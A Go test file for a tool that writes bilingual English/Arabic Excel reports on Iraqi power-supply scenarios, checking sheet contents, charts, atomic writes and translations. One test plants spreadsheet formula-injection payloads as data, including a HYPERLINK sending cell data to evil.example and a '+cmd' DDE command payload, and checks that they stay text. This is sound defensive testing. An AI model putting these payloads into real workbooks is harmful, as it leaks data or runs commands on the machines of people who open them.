package report

import (
	"archive/zip"
	"bytes"
	"errors"
	"image"
	"image/color"
	"image/png"
	"io"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// withoutImages skips the slide images (slow to render at 300 dpi) in tests
// about something else.
func withoutImages(t *testing.T) {
	old := renderPNG
	renderPNG = func(*Document, string, string) ([]byte, error) { return nil, nil }
	t.Cleanup(func() { renderPNG = old })
}

// writeFake writes the fake document's workbook in lang and opens it.
func writeFake(t *testing.T, doc *Document, lang string) (*excelize.File, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "gridrisk-"+lang+".xlsx")
	if err := WriteWorkbook(path, doc, lang); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, path
}

func rawValue(t *testing.T, f *excelize.File, sheet, cell string) string {
	t.Helper()
	v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// findRow returns the 1-based row whose column col holds want.
func findRow(t *testing.T, f *excelize.File, sheet string, col int, want string) int {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range rows {
		if len(r) >= col && r[col-1] == want {
			return i + 1
		}
	}
	t.Fatalf("%s: no row with %q in column %d", sheet, want, col)
	return 0
}

// findCol returns the 1-based column of the header cell want in row.
func findCol(t *testing.T, f *excelize.File, sheet string, row int, want string) int {
	t.Helper()
	rows, _ := f.GetRows(sheet)
	for j, v := range rows[row-1] {
		if v == want {
			return j + 1
		}
	}
	t.Fatalf("%s: no header %q in row %d (have %q)", sheet, want, row, rows[row-1])
	return 0
}

func near(t *testing.T, what, got string, want float64) {
	t.Helper()
	g, err := strconv.ParseFloat(got, 64)
	if err != nil || math.Abs(g-want) > 1e-9*math.Max(1, math.Abs(want)) {
		t.Errorf("%s = %q, want %v", what, got, want)
	}
}

func TestWorkbookSheetsAndValues(t *testing.T) {
	withoutImages(t)
	doc := fakeDocument()
	for _, lang := range []string{LangEnglish, LangArabic} {
		t.Run(lang, func(t *testing.T) {
			f, _ := writeFake(t, doc, lang)
			want := []string{"sheet.summary", "sheet.governorates", "sheet.monthly", "sheet.rolling", "sheet.imports",
				"sheet.allocation", "sheet.supply", "sheet.scenarios", "sheet.backtest", "sheet.sources", "sheet.run"}
			got := f.GetSheetList()
			if len(got) != len(want) {
				t.Fatalf("sheets %q, want %d", got, len(want))
			}
			for i, k := range want {
				if got[i] != tr(lang, k) {
					t.Errorf("sheet %d = %q, want %q", i, got[i], tr(lang, k))
				}
				view, err := f.GetSheetView(got[i], 0)
				if err != nil {
					t.Fatal(err)
				}
				if rtl := view.RightToLeft != nil && *view.RightToLeft; rtl != (lang == LangArabic) {
					t.Errorf("%s: right-to-left = %v", got[i], rtl)
				}
				layout, _ := f.GetPageLayout(got[i])
				if layout.Orientation == nil || *layout.Orientation != "landscape" || layout.FitToWidth == nil || *layout.FitToWidth != 1 {
					t.Errorf("%s: page setup is not landscape, one page wide", got[i])
				}
			}

			// Governorates: one row per governorate with both names and the
			// scenario values of the document.
			gov := tr(lang, "sheet.governorates")
			hours1 := findCol(t, f, gov, headRow, tr(lang, "h.hours", shortName(lang, "waiver-ended")))
			eue0 := findCol(t, f, gov, headRow, tr(lang, "h.eue", shortName(lang, "baseline")))
			for i, z := range doc.Scenarios[0].Zones {
				r := findRow(t, f, gov, 1, z.Code)
				p, q := z.Name, z.NameAr
				if lang == LangArabic {
					p, q = q, p
				}
				if a, b := rawValue(t, f, gov, cellAt(2, r)), rawValue(t, f, gov, cellAt(3, r)); a != p || b != q {
					t.Errorf("%s names = %q, %q; want %q, %q", z.Code, a, b, p, q)
				}
				near(t, z.Code+" EUE baseline (GWh)", rawValue(t, f, gov, cellAt(eue0, r)), z.EUE/1000)
				near(t, z.Code+" hours waiver-ended", rawValue(t, f, gov, cellAt(hours1, r)), doc.Scenarios[1].Zones[i].SupplyHoursPerDay)
			}
			rows, _ := f.GetRows(gov)
			if n := len(rows) - headRow; n != 19 {
				t.Errorf("governorates sheet has %d data rows, want 19", n)
			}
			cf, err := f.GetConditionalFormats(gov)
			if err != nil {
				t.Fatal(err)
			}
			types := map[string]bool{}
			for _, list := range cf {
				for _, c := range list {
					types[c.Type] = true
				}
			}
			for _, typ := range []string{"3_color_scale", "2_color_scale", "data_bar"} {
				if !types[typ] {
					t.Errorf("governorates sheet lacks a %s conditional format", typ)
				}
			}
			tables, _ := f.GetTables(gov)
			if len(tables) != 1 {
				t.Errorf("governorates sheet has %d tables, want 1", len(tables))
			}

			// Summary: national EUE of each scenario and the paired change.
			sum := tr(lang, "sheet.summary")
			r := findRow(t, f, sum, 1, tr(lang, "m.eue"))
			near(t, "EUE baseline", rawValue(t, f, sum, cellAt(2, r)), doc.Scenarios[0].System.EUE/1000)
			near(t, "EUE waiver-ended", rawValue(t, f, sum, cellAt(4, r)), doc.Scenarios[1].System.EUE/1000)
			near(t, "EUE change", rawValue(t, f, sum, cellAt(6, r)), doc.Comparisons[0].System.DeltaEUE/1000)
			near(t, "EUE change SE", rawValue(t, f, sum, cellAt(7, r)), doc.Comparisons[0].System.DeltaEUESE/1000)
			key := rawValue(t, f, sum, "A3")
			if !strings.Contains(key, num(doc.Comparisons[0].System.DeltaEUE/1000, 0)) {
				t.Errorf("key message %q does not state the EUE change", key)
			}

			// Monthly heat map values and the rolling-blackout probabilities.
			mon := tr(lang, "sheet.monthly")
			r = findRow(t, f, mon, 2, "IQ-DI")
			near(t, "Diyala July hours", rawValue(t, f, mon, cellAt(5+6, r)), doc.Scenarios[0].Zones[8].MonthlySupplyHours[6])
			rol := tr(lang, "sheet.rolling")
			r = findRow(t, f, rol, 2, "IQ-DI") // first is the 12 h row
			near(t, "Diyala P(<12 h) Aug", rawValue(t, f, rol, cellAt(6+7, r)), doc.Scenarios[0].Zones[8].MonthlyPDaysBelow[7][2])

			// Back-test and Run.
			bt := tr(lang, "sheet.backtest")
			r = findRow(t, f, bt, 1, doc.BackTest[3].Measure)
			wantRes := tr(lang, "v.outside")
			if doc.BackTest[3].Inside {
				wantRes = tr(lang, "v.inside")
			}
			if got := rawValue(t, f, bt, cellAt(9, r)); got != wantRes {
				t.Errorf("back-test result %q, want %q", got, wantRes)
			}
			// Each row shows the scenario and year it was run as, the
			// period of the record and, outside its range, the gap.
			r = findRow(t, f, bt, 1, doc.BackTest[4].Measure)
			for c, want := range map[int]string{2: trValue(lang, "winter-halt"), 3: "2025", 4: "Jan 2026", 10: doc.BackTest[4].Gap} {
				if got := rawValue(t, f, bt, cellAt(c, r)); got != want {
					t.Errorf("back-test column %d = %q, want %q", c, got, want)
				}
			}
			run := tr(lang, "sheet.run")
			r = findRow(t, f, run, 1, tr(lang, "r.hash"))
			if got := rawValue(t, f, run, cellAt(2, r)); got != doc.Run.InputHash {
				t.Errorf("input hash %q", got)
			}

			props, err := f.GetDocProps()
			if err != nil {
				t.Fatal(err)
			}
			if props.Creator != "gridrisk" || !strings.Contains(props.Description, doc.Run.InputHash) ||
				!strings.Contains(props.Description, "seed 20250308") || !strings.Contains(props.Description, "samples 2000") {
				t.Errorf("document properties %+v", props)
			}
		})
	}
}

// zipNames lists the parts of an xlsx file.
func zipNames(t *testing.T, path string) map[string][]byte {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	out := map[string][]byte{}
	for _, f := range z.File {
		r, _ := f.Open()
		b, _ := io.ReadAll(r)
		r.Close()
		out[f.Name] = b
	}
	return out
}

func TestWorkbookChartsAndPictures(t *testing.T) {
	// A small stand-in image proves the slide images are placed; the real
	// renderer is tested with the charts.
	var img bytes.Buffer
	m := image.NewRGBA(image.Rect(0, 0, 160, 90))
	m.Set(3, 3, color.RGBA{200, 0, 0, 255})
	if err := png.Encode(&img, m); err != nil {
		t.Fatal(err)
	}
	old := renderPNG
	var asked []string
	renderPNG = func(_ *Document, name, lang string) ([]byte, error) {
		asked = append(asked, name+"/"+lang)
		return img.Bytes(), nil
	}
	defer func() { renderPNG = old }()

	doc := fakeDocument()
	doc.Outlook = []OutlookRow{{Scenario: "baseline", Year: 2026, EUE: 9e7}, {Scenario: "baseline", Year: 2027, EUE: 1e8},
		{Scenario: "waiver-ended", Year: 2026, EUE: 1.1e8}, {Scenario: "waiver-ended", Year: 2027, EUE: 1.2e8}}
	doc.Sensitivity = []SensitivityRow{{Input: "Gas delivered", LowLabel: "-20%", HighLabel: "+20%", LowEUE: 1.2e8, HighEUE: 0.8e8, BaseEUE: 1e8}}
	doc.Options = []OptionRow{{Name: "LNG via FSRU", Description: "Floating import terminal at Khor al-Zubair", InService: "2026", RecoveredMWh: 5e6, RecoveredShare: 0.3}}
	doc.Replacement = &ReplacementRow{What: "firm MW in IQ-BG", Unit: "MW", Amount: 4250, Lower: 4200, Tolerance: 50, Target: "eue",
		TargetEUE: 9.05e7, BaseEUE: 9.05e7, AltEUE: 1.07e8, AchievedEUE: 9.04e7, AchievedEUESE: 3.6e5, AchievedHours: 15.9, Runs: 9}
	f, path := writeFake(t, doc, LangEnglish)
	r := findRow(t, f, "Replacement", 1, "Requirement (MW)")
	near(t, "replacement requirement", rawValue(t, f, "Replacement", cellAt(2, r)), 4250)
	for _, s := range []string{"Outlook", "Sensitivity", "Options"} {
		if idx, _ := f.GetSheetIndex(s); idx < 0 {
			t.Errorf("no %s sheet although the section is present", s)
		}
	}
	parts := zipNames(t, path)
	charts := 0
	for name, b := range parts {
		if strings.HasPrefix(name, "xl/charts/chart") && strings.HasSuffix(name, ".xml") {
			charts++
			// Native charts cache nothing computed; they reference cells.
			if !bytes.Contains(b, []byte("<f>")) {
				t.Errorf("%s has no cell reference", name)
			}
		}
	}
	// Summary, Monthly, Imports, Outlook, Sensitivity, Options.
	if charts != 6 {
		t.Errorf("%d native charts, want 6", charts)
	}
	for sheet, want := range map[string]int{"Summary": 1, "Monthly": 2, "Imports": 1, "Outlook": 1, "Sensitivity": 1, "Options": 1} {
		cells, err := f.GetPictureCells(sheet)
		if err != nil || len(cells) != want {
			t.Errorf("%s: pictures at %q, want %d (%v)", sheet, cells, want, err)
		}
	}
	for _, want := range []string{"supply-hours/en", "blackout-heatmap/en", "monthly-shortfall/en", "dependency/en", "outlook/en", "tornado/en", "options/en"} {
		found := false
		for _, a := range asked {
			found = found || a == want
		}
		if !found {
			t.Errorf("chart image %s not requested (asked %q)", want, asked)
		}
	}
	// Values are values: no formula anywhere in the sheets.
	for name, b := range parts {
		if strings.HasPrefix(name, "xl/worksheets/") && bytes.Contains(b, []byte("<f>")) {
			t.Errorf("%s contains a formula", name)
		}
	}
}

func TestWorkbookFormulaInjectionStaysText(t *testing.T) {
	withoutImages(t)
	doc := fakeDocument()
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	doc.Scenarios[0].Zones[0].Name = evil
	doc.Scenarios[1].Zones[0].Name = evil
	doc.Sources[0].Title = "+cmd|' /C calc'!A0"
	doc.Supply[0].Note = "@SUM(1+1)"
	doc.Scenarios[1].Description = "-2+3"
	f, _ := writeFake(t, doc, LangEnglish)
	for _, c := range []struct{ sheet, text string }{
		{"Governorates", evil}, {"Monthly", evil}, {"Sources", "+cmd|' /C calc'!A0"}, {"Supply", "@SUM(1+1)"}, {"Scenarios", "-2+3"},
	} {
		rows, _ := f.GetRows(c.sheet, excelize.Options{RawCellValue: true})
		found := false
		for i, r := range rows {
			for j, v := range r {
				if v != c.text {
					continue
				}
				found = true
				cell := cellAt(j+1, i+1)
				if fm, _ := f.GetCellFormula(c.sheet, cell); fm != "" {
					t.Errorf("%s!%s became a formula %q", c.sheet, cell, fm)
				}
				if typ, _ := f.GetCellType(c.sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s!%s has type %v, want a string", c.sheet, cell, typ)
				}
			}
		}
		if !found {
			t.Errorf("%s: text %q not found", c.sheet, c.text)
		}
	}
}

func TestWorkbookEmptySectionsHaveNotes(t *testing.T) {
	withoutImages(t)
	doc := fakeDocument()
	doc.Dependency, doc.BackTest, doc.Supply, doc.Sources, doc.Comparisons = nil, nil, nil, nil, nil
	doc.Scenarios = doc.Scenarios[:1]
	for _, lang := range []string{LangEnglish, LangArabic} {
		f, _ := writeFake(t, doc, lang)
		for sheet, note := range map[string]string{"sheet.imports": "empty.imports", "sheet.backtest": "empty.backtest",
			"sheet.supply": "empty.supply", "sheet.sources": "empty.sources"} {
			if got := rawValue(t, f, tr(lang, sheet), "A3"); got != tr(lang, note) {
				t.Errorf("%s/%s: A3 = %q, want the note", lang, sheet, got)
			}
		}
		if got := rawValue(t, f, tr(lang, "sheet.summary"), "A3"); !strings.Contains(got, shortName(lang, "baseline")) {
			t.Errorf("one-scenario key message %q", got)
		}
	}
}

func TestWorkbookAtomicWrite(t *testing.T) {
	withoutImages(t)
	dir := t.TempDir()
	path := filepath.Join(dir, "report.xlsx")
	original := []byte("the user's earlier report")
	if err := os.WriteFile(path, original, 0o644); err != nil {
		t.Fatal(err)
	}
	check := func(what string) {
		t.Helper()
		if b, _ := os.ReadFile(path); !bytes.Equal(b, original) {
			t.Errorf("%s: the existing file was changed", what)
		}
		entries, _ := os.ReadDir(dir)
		if len(entries) != 1 {
			t.Errorf("%s: left %d files in the directory", what, len(entries))
		}
	}
	// A failure half-way through the write.
	old := writeWorkbookTo
	writeWorkbookTo = func(f *excelize.File, w io.Writer) error {
		w.Write([]byte("PK\x03\x04 partial"))
		return errors.New("disk full")
	}
	err := WriteWorkbook(path, fakeDocument(), LangEnglish)
	writeWorkbookTo = old
	if err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("want the write error, got %v", err)
	}
	check("failed write")
	// A document that cannot be written.
	bad := fakeDocument()
	bad.Scenarios[0].System.EUE = math.NaN()
	if err := WriteWorkbook(path, bad, LangEnglish); err == nil || !strings.Contains(err.Error(), "scenarios[0].system.eue_mwh") {
		t.Errorf("want an error naming the NaN, got %v", err)
	}
	check("bad document")
	if err := WriteWorkbook(path, fakeDocument(), "fr"); err == nil {
		t.Error("an unknown language must be an error")
	}
	// An unwritable directory (not enforced for root).
	if os.Geteuid() != 0 {
		if err := os.Chmod(dir, 0o555); err != nil {
			t.Fatal(err)
		}
		err := WriteWorkbook(path, fakeDocument(), LangEnglish)
		os.Chmod(dir, 0o755)
		if err == nil {
			t.Error("writing into a read-only directory must fail")
		}
		check("read-only directory")
	}
	// Success replaces the file.
	if err := WriteWorkbook(path, fakeDocument(), LangEnglish); err != nil {
		t.Fatal(err)
	}
	if f, err := excelize.OpenFile(path); err != nil {
		t.Errorf("replaced file does not open: %v", err)
	} else {
		f.Close()
	}
}

// TestWorkbookRealChartImages places the real slide images: one per native
// chart, plus the heat map, each a PNG inside the package.
func TestWorkbookRealChartImages(t *testing.T) {
	f, path := writeFake(t, fakeDocument(), LangArabic)
	for sheet, want := range map[string]int{tr("ar", "sheet.summary"): 1, tr("ar", "sheet.monthly"): 2, tr("ar", "sheet.imports"): 1} {
		cells, err := f.GetPictureCells(sheet)
		if err != nil || len(cells) != want {
			t.Errorf("%s: pictures at %q, want %d (%v)", sheet, cells, want, err)
		}
	}
	n := 0
	for name, b := range zipNames(t, path) {
		if strings.HasPrefix(name, "xl/media/") {
			n++
			if cfg, err := png.DecodeConfig(bytes.NewReader(b)); err != nil || cfg.Width < 1000 {
				t.Errorf("%s: not a slide-size PNG (%v, %d px)", name, err, cfg.Width)
			}
		}
	}
	if n != 4 {
		t.Errorf("%d images in the workbook, want 4", n)
	}
}

// formatVerb is a fmt verb with its flags, width, precision and index.
var formatVerb = regexp.MustCompile(`%[-+# 0-9.\[\]*]*[a-zA-Z]`)

func TestMessagesComplete(t *testing.T) {
	for k, m := range messages {
		if strings.TrimSpace(m[0]) == "" || strings.TrimSpace(m[1]) == "" {
			t.Errorf("message %s lacks a translation", k)
		}
		if strings.Count(m[0], "%") != strings.Count(m[1], "%") {
			t.Errorf("message %s: the translations take different arguments", k)
		}
		for _, s := range m {
			// Every message is a format string: each percent sign starts
			// a verb, or is written %% to print as itself.
			rest := strings.ReplaceAll(s, "%%", "")
			if strings.Count(rest, "%") != len(formatVerb.FindAllString(rest, -1)) {
				t.Errorf("message %s: %q has a percent sign that is neither a verb nor %%%%", k, s)
			}
		}
		if strings.HasPrefix(k, "sheet.") {
			for _, s := range m {
				if len([]rune(s)) > 31 || strings.ContainsAny(s, `[]:*?/\`) {
					t.Errorf("sheet name %q is not valid in Excel", s)
				}
			}
		}
	}
}

// TestWorkbookRendersInLibreOffice converts both workbooks to PDF when
// LibreOffice is installed (it is not on CI). Set GRIDRISK_WB_DIR to keep
// the files for a visual check.
func TestWorkbookRendersInLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil || testing.Short() {
		t.Skip("soffice not on PATH")
	}
	dir := os.Getenv("GRIDRISK_WB_DIR")
	if dir == "" {
		dir = t.TempDir()
	}
	for _, lang := range []string{LangEnglish, LangArabic} {
		path := filepath.Join(dir, "gridrisk-"+lang+".xlsx")
		if err := WriteWorkbook(path, fakeDocument(), lang); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(soffice, "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "lo-profile"),
			"--convert-to", "pdf", "--outdir", dir, path)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("soffice: %v\n%s", err, out)
		}
		st, err := os.Stat(strings.TrimSuffix(path, ".xlsx") + ".pdf")
		if err != nil || st.Size() < 10000 {
			t.Errorf("%s: no PDF or a tiny one (%v)", lang, err)
		}
	}
}

func TestKeyMessageFollowsTheNumbers(t *testing.T) {
	doc := fakeDocument()
	w := &wb{doc: doc, lang: LangEnglish}
	msg := w.keyMessage()
	// Baghdad (-2.50 ± 0.02) and Basra (-2.48 ± 0.02) cannot be told apart.
	if !strings.Contains(msg, "rises by 16,148 GWh") || !strings.Contains(msg, "Baghdad and Basra lose most, tied within sampling error (-2.5 h a day)") {
		t.Errorf("waiver-ended message: %s", msg)
	}
	// Swap the scenarios: the change becomes a gain in hours and a fall in
	// unserved energy, and the message must say so.
	doc.Scenarios[0], doc.Scenarios[1] = doc.Scenarios[1], doc.Scenarios[0]
	doc.Comparisons = nil
	msg = w.keyMessage()
	if !strings.Contains(msg, "falls by 16,148 GWh") || !strings.Contains(msg, "Baghdad and Basra gain most, tied within sampling error (+2.5 h a day)") {
		t.Errorf("reversed message: %s", msg)
	}
	w.lang = LangArabic
	if msg := w.keyMessage(); !strings.Contains(msg, "تنخفض") || !strings.Contains(msg, "بغداد") {
		t.Errorf("Arabic message: %s", msg)
	}
}

// TestWorkbookShapes writes documents of unusual shapes: no zones (a
// single-area system), three scenarios, zones listed in another order or
// missing from a later scenario.
func TestWorkbookShapes(t *testing.T) {
	withoutImages(t)
	noZones := fakeDocument()
	noZones.Scenarios = noZones.Scenarios[:1]
	noZones.Scenarios[0].Zones = nil
	noZones.Comparisons, noZones.Dependency = nil, nil
	three := fakeDocument()
	third := three.Scenarios[1]
	third.Name = "waiver-ended+fsru"
	third.Zones = append([]ZoneMetrics(nil), third.Zones...)
	three.Scenarios = append(three.Scenarios, third)
	reordered := fakeDocument()
	z := reordered.Scenarios[1].Zones
	for i, j := 0, len(z)-1; i < j; i, j = i+1, j-1 {
		z[i], z[j] = z[j], z[i]
	}
	reordered.Scenarios[1].Zones = z[1:] // and the first zone of the reference missing
	for name, c := range map[string]struct {
		doc      *Document
		diffCols int // change columns on the Summary
	}{"no zones": {noZones, 0}, "three scenarios": {three, 4}, "reordered": {reordered, 2}} {
		t.Run(name, func(t *testing.T) {
			f, _ := writeFake(t, c.doc, LangEnglish)
			rows, _ := f.GetRows("Summary")
			head := rows[5]
			if want := 1 + 2*len(c.doc.Scenarios) + c.diffCols; len(head) != want {
				t.Errorf("Summary header has %d columns, want %d: %q", len(head), want, head)
			}
			if len(c.doc.Scenarios[0].Zones) == 0 {
				if got := rawValue(t, f, "Governorates", "A3"); got != tr("en", "empty.monthly") {
					t.Errorf("Governorates note %q", got)
				}
				return
			}
			// A governorate's later-scenario value is found by code.
			r := findRow(t, f, "Governorates", 1, "IQ-BA")
			col := findCol(t, f, "Governorates", headRow, tr("en", "h.hours", trValue("en", c.doc.Scenarios[1].Name)))
			var want float64
			for _, z := range c.doc.Scenarios[1].Zones {
				if z.Code == "IQ-BA" {
					want = z.SupplyHoursPerDay
				}
			}
			near(t, "Basra hours, second scenario", rawValue(t, f, "Governorates", cellAt(col, r)), want)
		})
	}
}

// shortName is a scenario's heading as the workbook shows it from the test
// labels.
func shortName(lang, name string) string {
	if l := testLabels()[name]; lang == LangArabic && l.ShortAr != "" {
		return l.ShortAr
	}
	return name
}
